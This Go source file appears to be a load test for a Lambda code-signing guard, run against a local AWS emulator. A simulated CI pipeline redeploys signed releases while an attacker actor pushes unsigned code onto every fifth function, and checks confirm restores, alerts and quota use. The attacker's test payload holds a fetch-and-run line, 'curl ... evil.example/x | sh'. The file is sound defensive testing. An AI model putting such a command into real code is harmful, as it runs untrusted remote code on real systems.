package loadtest

import (
	"context"
	"errors"
	"fmt"
	"io"
	"sort"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/credentials"
	"github.com/aws/aws-sdk-go-v2/service/lambda"

	"github.com/selfguard/selfguard/infra/emulator"
	"github.com/selfguard/selfguard/infra/emulator/awsproto"
	"github.com/selfguard/selfguard/infra/emulator/lambdaemu"
	"github.com/selfguard/selfguard/infra/eventbus"
	"github.com/selfguard/selfguard/infra/testbed"
	"github.com/selfguard/selfguard/shared/ratelimit"
)

// GuardFunction is the template's logical id of the Lambda guard.
const GuardFunction = "LambdaGuardFunction"

// EventsPerFunction is how many change events the pipeline (and, on a bad
// function, the attacker) causes on each function.
const EventsPerFunction = 5

// BurstOptions size and shape a burst; zero values take the defaults.
type BurstOptions struct {
	// Functions redeployed (default 200: 1,000 events).
	Functions int
	// BadEvery: every BadEvery-th function also gets the attacker's
	// unsigned code as its last change (default 5).
	BadEvery int
	// ErrorRate is the share of Lambda calls answered with an injected
	// error, half 429 TooManyRequestsException, half 500 ServiceException
	// (default 0.2; negative for none).
	ErrorRate float64
	// SlowLatency is added to every call of SlowOperations (default 150ms).
	SlowLatency    time.Duration
	SlowOperations []string
	// PipelineRate caps the pipeline's control-plane calls a second
	// (default 8: with the guard's 5, below the 15/s quota).
	PipelineRate float64
	// PipelineWorkers is how many functions the pipeline deploys at once (default 8).
	PipelineWorkers int
	// GuardRate is the template's LambdaRate parameter (default 5).
	GuardRate float64
	// TimeScale scales Lambda's retry delays and maximum event age
	// (default 0.2: retries after 12 s and 24 s, events expire after 12 min).
	TimeScale float64
	// Duplicate is the share of events the bus delivers twice (default 0.02).
	Duplicate float64
	// UpdateDelay is how long a code or configuration update stays
	// InProgress (default 100ms).
	UpdateDelay time.Duration
	// Progress receives progress lines; GuardLogs the guard's raw output.
	Progress, GuardLogs io.Writer
}

func (o *BurstOptions) defaults() {
	if o.Functions <= 0 {
		o.Functions = 200
	}
	if o.BadEvery <= 0 {
		o.BadEvery = 5
	}
	if o.ErrorRate == 0 {
		o.ErrorRate = 0.2
	}
	if o.SlowLatency == 0 {
		o.SlowLatency = 150 * time.Millisecond
	}
	if o.SlowOperations == nil {
		o.SlowOperations = []string{"GetFunctionCodeSigningConfig", "ListVersionsByFunction"}
	}
	if o.PipelineRate <= 0 {
		o.PipelineRate = 8
	}
	if o.PipelineWorkers <= 0 {
		o.PipelineWorkers = 8
	}
	if o.GuardRate <= 0 {
		o.GuardRate = 5
	}
	if o.TimeScale <= 0 {
		o.TimeScale = 0.2
	}
	if o.Duplicate == 0 {
		o.Duplicate = 0.02
	}
	if o.UpdateDelay <= 0 {
		o.UpdateDelay = 100 * time.Millisecond
	}
	if o.Progress == nil {
		o.Progress = io.Discard
	}
}

// BurstReport is what a burst measured and whether its checks held.
type BurstReport struct {
	Options      BurstOptions  `json:"-"`
	Events       int           `json:"events"` // change events the pipeline and attacker caused
	Bad          int           `json:"bad"`    // functions given unsigned code
	PipelineWall time.Duration `json:"pipelineWall"`
	Wall         time.Duration `json:"wall"` // first change to the last delivery settled
	// Latency is each delivery's time from the bus handing it over to the
	// guard's answer, queueing behind earlier events included: p50, p95, max.
	Latency      [3]time.Duration `json:"latency"`
	Deliveries   DeliveryTally    `json:"deliveries"`
	Usage        []BucketUse      `json:"usage"`
	GuardWrites  map[string]int   `json:"guardWrites"` // operation -> successful writes by the guard
	Alerts       AlertTally       `json:"alerts"`
	AlertsByRule map[string]int   `json:"alertsByRule"`
	Faults       []awsproto.Fault `json:"faults"`
	Checks       Checks           `json:"checks"`
}

// Bad reports whether function i gets the attacker's code.
func (o BurstOptions) bad(i int) bool { return i%o.BadEvery == o.BadEvery-1 }

// FunctionName names the i-th function of the burst world.
func FunctionName(i int) string { return fmt.Sprintf("app-%03d", i) }

// BurstWorld is the demo world's signing setup with n functions released
// through a prod alias to signed version 1. Bad functions keep a Warn-only
// code signing config (AWS's default policy), so unsigned code deploys on
// them; the others enforce.
func BurstWorld(o BurstOptions) *emulator.World {
	o.defaults()
	w := testbed.DemoWorld()
	delay := int(o.UpdateDelay / time.Millisecond)
	w.Lambda.UpdateDelayMs = &delay
	signed := lambdaemu.CodeWorld{Files: map[string]string{"bootstrap": "#!/bin/sh\necho release 1\n"}, SignedBy: testbed.ReleaseProfile}
	w.Lambda.Functions = nil
	for i := 0; i < o.Functions; i++ {
		csc := testbed.EnforceCSCID
		if o.bad(i) {
			csc = testbed.WarnCSCID
		}
		w.Lambda.Functions = append(w.Lambda.Functions, lambdaemu.FunctionWorld{
			Name: FunctionName(i), CodeWorld: signed, CodeSigningConfig: csc,
			Versions: []lambdaemu.VersionWorld{{CodeWorld: signed, Description: "release 1"}},
			Aliases:  []lambdaemu.AliasWorld{{Name: "prod", FunctionVersion: "1"}},
		})
	}
	return w
}

// Faults returns the burst's injected faults.
func (o BurstOptions) Faults() []awsproto.Fault {
	var fs []awsproto.Fault
	if o.ErrorRate > 0 {
		// Two independent draws of p each fail 1-(1-p)^2 of the calls.
		p := 1 - sqrt(1-o.ErrorRate)
		fs = append(fs,
			awsproto.Fault{Service: "lambda", Operation: "*", ErrorRate: p, Status: 429, Code: "TooManyRequestsException"},
			awsproto.Fault{Service: "lambda", Operation: "*", ErrorRate: p, Status: 500, Code: "ServiceException"})
	}
	for _, op := range o.SlowOperations {
		fs = append(fs, awsproto.Fault{Service: "lambda", Operation: op, Latency: o.SlowLatency})
	}
	return fs
}

func sqrt(x float64) float64 {
	z := x
	for i := 0; i < 40 && z > 0; i++ {
		z = (z + x/z) / 2
	}
	return z
}

// RunBurst brings up the local account, runs the burst and checks it.
func RunBurst(ctx context.Context, o BurstOptions) (*BurstReport, error) {
	o.defaults()
	rep := &BurstReport{Options: o, Faults: o.Faults()}
	sink := &LogSink{Echo: o.GuardLogs}
	params := testbed.GuardParameters("enforce")
	// No CSC to attach: bad functions keep their Warn-only config, so the
	// attacker's code lands whenever the guard reaches them (deterministic
	// counts), and the warn-only finding is alerted, not acted on.
	params["CodeSigningConfigArn"] = ""
	params["LambdaRate"] = fmt.Sprint(o.GuardRate)
	fmt.Fprintf(o.Progress, "burst: starting the local account with %d functions\n", o.Functions)
	bed, err := testbed.Start(ctx, testbed.Options{
		World: BurstWorld(o), Parameters: params, Functions: []string{GuardFunction},
		TimeScale: o.TimeScale, Duplicate: o.Duplicate, LogWriter: sink,
	})
	if err != nil {
		return nil, err
	}
	defer bed.Close()
	// Reads too, so every call shows with its caller: the call log counts
	// per operation only. Set before any call is made.
	bed.Emulator.Env.Trail.RecordReads = true
	startSeq := int64(len(bed.Emulator.Env.Trail.Since(0)))

	signed, _, err := bed.Emulator.Lambda.Sign(testbed.ReleaseProfile, lambdaemu.ZipOf(map[string]string{"bootstrap": "#!/bin/sh\necho release 2\n"}))
	if err != nil {
		return nil, fmt.Errorf("sign release 2: %w", err)
	}
	unsigned := lambdaemu.ZipOf(map[string]string{"bootstrap": "#!/bin/sh\ncurl -s https://evil.example/x | sh\n"})
	ci, err := pipelineClient(bed, emulator.ActorCI, o.PipelineRate)
	if err != nil {
		return nil, err
	}
	mallory, err := pipelineClient(bed, emulator.ActorAttacker, o.PipelineRate)
	if err != nil {
		return nil, err
	}

	bed.Emulator.Env.Faults.Set(rep.Faults)
	start := time.Now()
	pollCtx, stopPoll := context.WithCancel(ctx)
	var pollDone sync.WaitGroup
	pollDone.Add(1)
	go func() { defer pollDone.Done(); bed.Bus.PollTrail(pollCtx, bed.URL, 250*time.Millisecond) }()

	var events atomic.Int64
	var failures []error
	var fmu sync.Mutex
	work := make(chan int)
	var wg sync.WaitGroup
	for w := 0; w < o.PipelineWorkers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := range work {
				n, err := redeploy(ctx, ci, mallory, FunctionName(i), o.bad(i), signed, unsigned)
				events.Add(int64(n))
				if err != nil {
					fmu.Lock()
					failures = append(failures, err)
					fmu.Unlock()
				}
			}
		}()
	}
	go func() {
		tick := time.NewTicker(15 * time.Second)
		defer tick.Stop()
		for {
			select {
			case <-pollCtx.Done():
				return
			case <-tick.C:
				fmt.Fprintf(o.Progress, "burst: %s: %d events caused, %d guard deliveries ended\n",
					time.Since(start).Round(time.Second), events.Load(), countTarget(bed, GuardFunction))
			}
		}
	}()
	for i := 0; i < o.Functions; i++ {
		work <- i
	}
	close(work)
	wg.Wait()
	rep.PipelineWall = time.Since(start)
	fmt.Fprintf(o.Progress, "burst: pipeline done in %s (%d events); waiting for the guard\n", rep.PipelineWall.Round(time.Millisecond), events.Load())
	stopPoll()
	pollDone.Wait()
	if err := bed.Settle(ctx); err != nil {
		return nil, fmt.Errorf("settle: %w", err)
	}
	rep.Wall = time.Since(start)
	bed.Emulator.Env.Faults.Set(nil)
	rep.Events = int(events.Load())
	for i := 0; i < o.Functions; i++ {
		if o.bad(i) {
			rep.Bad++
		}
	}

	calls, err := ParseCalls(bed.Emulator.Env.Trail.Since(startSeq))
	if err != nil {
		return nil, err
	}
	guardRole := bed.Roles[GuardFunction]
	party := func(c Call) string {
		if c.Issuer == guardRole {
			return "guard"
		}
		return "others"
	}
	rep.Usage = Usage(calls, party)
	ds := bed.Bus.Deliveries()
	rep.Deliveries = TallyDeliveries(ds, bed.Bus.DeadLetters(), GuardFunction)
	var took []time.Duration
	for _, d := range ds {
		if d.Target == GuardFunction && d.Result != eventbus.ResultExpired && d.Result != eventbus.ResultCancelled {
			took = append(took, d.Took)
		}
	}
	if len(took) > 0 {
		sort.Slice(took, func(i, j int) bool { return took[i] < took[j] })
		rep.Latency = [3]time.Duration{took[len(took)/2], took[len(took)*95/100], took[len(took)-1]}
	}
	writes := WritesBy(calls, guardRole)
	rep.GuardWrites = map[string]int{}
	for _, ops := range writes {
		for op, n := range ops {
			rep.GuardWrites[op] += n
		}
	}
	alerts, err := bed.Alerts(ctx)
	if err != nil {
		return nil, err
	}
	rep.Alerts = TallyAlerts(alerts, sink.Findings())
	rep.AlertsByRule = map[string]int{}
	for _, a := range alerts {
		rep.AlertsByRule[a.Attributes["rule"]+" "+a.Attributes["outcome"]]++
	}
	restoreDone := map[string]int{}
	for _, a := range alerts {
		if a.Attributes["rule"] == "lambda.unsigned-code" && a.Attributes["outcome"] == "done" {
			restoreDone[a.Attributes["resource"]]++
		}
	}

	// Checks.
	cs := &rep.Checks
	var pipelineErr error
	if len(failures) > 0 {
		pipelineErr = errors.Join(failures...)
	}
	cs.Add("pipeline caused every event", rep.Events == o.Functions*EventsPerFunction && pipelineErr == nil,
		"%d of %d change events (pipeline errors: %v)", rep.Events, o.Functions*EventsPerFunction, pipelineErr)
	changeEvents := 0
	for _, c := range calls {
		if c.Write() && c.Issuer != guardRole {
			changeEvents++
		}
	}
	cs.Add("trail holds every change", changeEvents == rep.Events,
		"%d successful writes by the pipeline and attacker in the trail", changeEvents)
	dt := rep.Deliveries
	guardOwn := 0
	for _, ops := range writes {
		for _, n := range ops {
			guardOwn += n
		}
	}
	cs.Add("every event delivered", dt.Events == rep.Events+guardOwn,
		"%d distinct events reached the guard: %d changes + %d of its own writes", dt.Events, rep.Events, guardOwn)
	cs.Add("every event handled", dt.Unfinished == 0 && dt.DeadLetters == 0,
		"%d ok first time, %d ok after a retry, %d dead letters, %d unfinished%s",
		dt.FirstTimeOK, dt.RetriedOK, dt.DeadLetters, dt.Unfinished, dt.reasons())

	var dupes, stray []string
	for i := 0; i < o.Functions; i++ {
		fn := FunctionName(i)
		ops := writes[fn]
		want := map[string]int{}
		if o.bad(i) {
			want["UpdateFunctionCode"] = 1
		}
		if !sameCounts(ops, want) {
			if o.bad(i) {
				dupes = append(dupes, fmt.Sprintf("%s: %v", fn, ops))
			} else {
				stray = append(stray, fmt.Sprintf("%s: %v", fn, ops))
			}
		}
	}
	for fn, ops := range writes {
		if !strings.HasPrefix(fn, "app-") {
			stray = append(stray, fmt.Sprintf("%s: %v", fn, ops))
		}
	}
	cs.Add("one restore per bad function", len(dupes) == 0,
		"guard writes %v over %d bad functions; off: %s", rep.GuardWrites, rep.Bad, listOrNone(dupes))
	cs.Add("no action on good functions", len(stray) == 0, "off: %s", listOrNone(stray))

	var notDone []string
	for i := 0; i < o.Functions; i++ {
		if o.bad(i) && restoreDone[FunctionName(i)] != 1 {
			notDone = append(notDone, fmt.Sprintf("%s: %d", FunctionName(i), restoreDone[FunctionName(i)]))
		}
	}
	cs.Add("one done-restore alert per bad function", len(notDone) == 0, "off: %s", listOrNone(notDone))
	at := rep.Alerts
	cs.Add("no alert lost or extra", len(at.Missing) == 0 && len(at.Extra) == 0 && len(at.DoubleDone) == 0,
		"%d alerts in the inbox for %d findings logged; missing %d, extra %d, done twice %d; by rule and outcome %v",
		at.Alerts, at.Findings, len(at.Missing), len(at.Extra), len(at.DoubleDone), rep.AlertsByRule)

	var othersThrottled, guardThrottled int
	for _, u := range rep.Usage {
		if u.Party == "others" {
			othersThrottled += u.Throttled
		} else {
			guardThrottled += u.Throttled
		}
	}
	cs.Add("no quota exhaustion for others", othersThrottled == 0,
		"the pipeline and attacker were throttled %d times by the quota (the guard %d times); %s",
		othersThrottled, guardThrottled, usageLine(rep.Usage, rep.Wall))

	bad, err := finalState(ctx, bed, o)
	if err != nil {
		return nil, err
	}
	cs.Add("final state as released", len(bad) == 0,
		"every $LATEST runs signed release 2 and every prod alias points at version 2; off: %s", listOrNone(bad))
	return rep, nil
}

func countTarget(bed *testbed.Bed, target string) int {
	n := 0
	for _, d := range bed.Bus.Deliveries() {
		if d.Target == target {
			n++
		}
	}
	return n
}

func sameCounts(a, b map[string]int) bool {
	for k, v := range a {
		if b[k] != v {
			return false
		}
	}
	for k, v := range b {
		if a[k] != v {
			return false
		}
	}
	return true
}

func listOrNone(s []string) string {
	if len(s) == 0 {
		return "none"
	}
	sort.Strings(s)
	if len(s) > 10 {
		return strings.Join(s[:10], "; ") + fmt.Sprintf("; ... %d in all", len(s))
	}
	return strings.Join(s, "; ")
}

func usageLine(us []BucketUse, wall time.Duration) string {
	var parts []string
	for _, u := range us {
		parts = append(parts, fmt.Sprintf("%s/%s: %d calls (%d admitted, %.1f/s average, peak %d in one second; %d throttled, %d injected)",
			u.Party, u.Bucket, u.Calls, u.Admitted, float64(u.Admitted)/wall.Seconds(), u.PeakPerSecond, u.Throttled, u.Injected))
	}
	return strings.Join(parts, "; ")
}

// pipelineClient is a Lambda client as a deploy tool would have one: the
// SDK's standard retries, and a client-side cap on the shared quota.
func pipelineClient(bed *testbed.Bed, actor string, rate float64) (*lambda.Client, error) {
	a, ok := bed.Emulator.Identities.ByName(actor)
	if !ok {
		return nil, fmt.Errorf("no actor %q", actor)
	}
	cfg := aws.Config{Region: testbed.Region, Credentials: credentials.NewStaticCredentialsProvider(a.AccessKeyID, a.SecretKey, "")}
	lim := ratelimit.New(rate, nil)
	return lambda.NewFromConfig(cfg, func(o *lambda.Options) {
		o.BaseEndpoint = aws.String(bed.URL)
		o.APIOptions = append(o.APIOptions, lim.Middleware)
	}), nil
}

// redeploy is one function's share of the burst: ci's signed release 2
// (code, configuration, version, alias) and then either another
// configuration change or, on a bad function, mallory's unsigned code. It
// returns how many changes succeeded.
func redeploy(ctx context.Context, ci, mallory *lambda.Client, fn string, bad bool, signed, unsigned []byte) (int, error) {
	n := 0
	step := func(what string, c *lambda.Client, f func() error) error {
		if err := persist(ctx, func() error { return waitUpdated(ctx, c, fn) }); err != nil {
			return fmt.Errorf("%s: wait before %s: %w", fn, what, err)
		}
		if err := persist(ctx, f); err != nil {
			return fmt.Errorf("%s: %s: %w", fn, what, err)
		}
		n++
		return nil
	}
	var version *string
	steps := []struct {
		what string
		c    *lambda.Client
		f    func() error
	}{
		{"update code", ci, func() error {
			_, err := ci.UpdateFunctionCode(ctx, &lambda.UpdateFunctionCodeInput{FunctionName: aws.String(fn), ZipFile: signed})
			return err
		}},
		{"update configuration", ci, func() error {
			_, err := ci.UpdateFunctionConfiguration(ctx, &lambda.UpdateFunctionConfigurationInput{FunctionName: aws.String(fn), Description: aws.String("release 2")})
			return err
		}},
		{"publish version", ci, func() error {
			out, err := ci.PublishVersion(ctx, &lambda.PublishVersionInput{FunctionName: aws.String(fn), Description: aws.String("release 2")})
			if err == nil {
				version = out.Version
			}
			return err
		}},
		{"update alias", ci, func() error {
			_, err := ci.UpdateAlias(ctx, &lambda.UpdateAliasInput{FunctionName: aws.String(fn), Name: aws.String("prod"), FunctionVersion: version})
			return err
		}},
	}
	if bad {
		steps = append(steps, struct {
			what string
			c    *lambda.Client
			f    func() error
		}{"unsigned code", mallory, func() error {
			_, err := mallory.UpdateFunctionCode(ctx, &lambda.UpdateFunctionCodeInput{FunctionName: aws.String(fn), ZipFile: unsigned})
			return err
		}})
	} else {
		steps = append(steps, struct {
			what string
			c    *lambda.Client
			f    func() error
		}{"update memory", ci, func() error {
			_, err := ci.UpdateFunctionConfiguration(ctx, &lambda.UpdateFunctionConfigurationInput{FunctionName: aws.String(fn), MemorySize: aws.Int32(256)})
			return err
		}})
	}
	for _, s := range steps {
		if err := step(s.what, s.c, s.f); err != nil {
			return n, err
		}
	}
	return n, nil
}

// persist retries f as a deploy tool does past the SDK's own retries:
// injected errors and 409s while an update runs are worth another go.
func persist(ctx context.Context, f func() error) error {
	var err error
	for i := 0; i < 10; i++ {
		if err = f(); err == nil {
			return nil
		}
		select {
		case <-ctx.Done():
			return ctx.Err()
		case <-time.After(time.Duration(i+1) * 200 * time.Millisecond):
		}
	}
	return err
}

func waitUpdated(ctx context.Context, c *lambda.Client, fn string) error {
	w := lambda.NewFunctionUpdatedV2Waiter(c, func(o *lambda.FunctionUpdatedV2WaiterOptions) {
		o.MinDelay, o.MaxDelay = 100*time.Millisecond, time.Second
	})
	return w.Wait(ctx, &lambda.GetFunctionInput{FunctionName: aws.String(fn)}, 30*time.Second)
}

// finalState checks each function after the burst (faults off): $LATEST
// runs the signed release 2 and prod points at version 2.
func finalState(ctx context.Context, bed *testbed.Bed, o BurstOptions) ([]string, error) {
	admin := bed.Lambda(emulator.ActorAdmin)
	var off []string
	for i := 0; i < o.Functions; i++ {
		fn := FunctionName(i)
		v2, err := admin.GetFunction(ctx, &lambda.GetFunctionInput{FunctionName: aws.String(fn), Qualifier: aws.String("prod")})
		if err != nil {
			return nil, fmt.Errorf("read %s:prod: %w", fn, err)
		}
		latest, err := admin.GetFunction(ctx, &lambda.GetFunctionInput{FunctionName: aws.String(fn)})
		if err != nil {
			return nil, fmt.Errorf("read %s: %w", fn, err)
		}
		switch {
		case aws.ToString(v2.Configuration.Version) != "2":
			off = append(off, fmt.Sprintf("%s: prod -> %s", fn, aws.ToString(v2.Configuration.Version)))
		case aws.ToString(latest.Configuration.CodeSha256) != aws.ToString(v2.Configuration.CodeSha256):
			off = append(off, fmt.Sprintf("%s: $LATEST code %s is not version 2's", fn, aws.ToString(latest.Configuration.CodeSha256)))
		case latest.Configuration.SigningProfileVersionArn == nil:
			off = append(off, fmt.Sprintf("%s: $LATEST unsigned", fn))
		}
	}
	return off, nil
}

// Print writes the figures and the checks.
func (r *BurstReport) Print(w io.Writer) {
	o := r.Options
	fmt.Fprintf(w, "\n== Burst: %d functions, %d change events (%d functions given unsigned code), enforce mode\n", o.Functions, r.Events, r.Bad)
	fmt.Fprintf(w, "   faults: %d%% of Lambda calls fail (429/500 evenly), +%s on %v; quotas 15/s + GetFunction 100/s; guard rate %.0f/s, pipeline %.0f/s; retries x%.2f; duplicates %.0f%%\n",
		int(o.ErrorRate*100+0.5), o.SlowLatency, o.SlowOperations, o.GuardRate, o.PipelineRate, o.TimeScale, o.Duplicate*100)
	fmt.Fprintf(w, "   wall %s (pipeline %s), %.2f events/s handled; delivery latency p50 %s, p95 %s, max %s (queueing included)\n",
		r.Wall.Round(time.Millisecond), r.PipelineWall.Round(time.Millisecond), float64(r.Deliveries.Events)/r.Wall.Seconds(),
		r.Latency[0].Round(time.Millisecond), r.Latency[1].Round(time.Millisecond), r.Latency[2].Round(time.Millisecond))
	fmt.Fprintf(w, "   deliveries to the guard: %+v\n", r.Deliveries)
	for _, u := range r.Usage {
		fmt.Fprintf(w, "   %-6s %-13s calls %5d  admitted %5d (%.2f/s avg, peak %d/s)  throttled %4d  injected %4d\n",
			u.Party, u.Bucket, u.Calls, u.Admitted, float64(u.Admitted)/r.Wall.Seconds(), u.PeakPerSecond, u.Throttled, u.Injected)
	}
	r.Checks.Print(w)
}
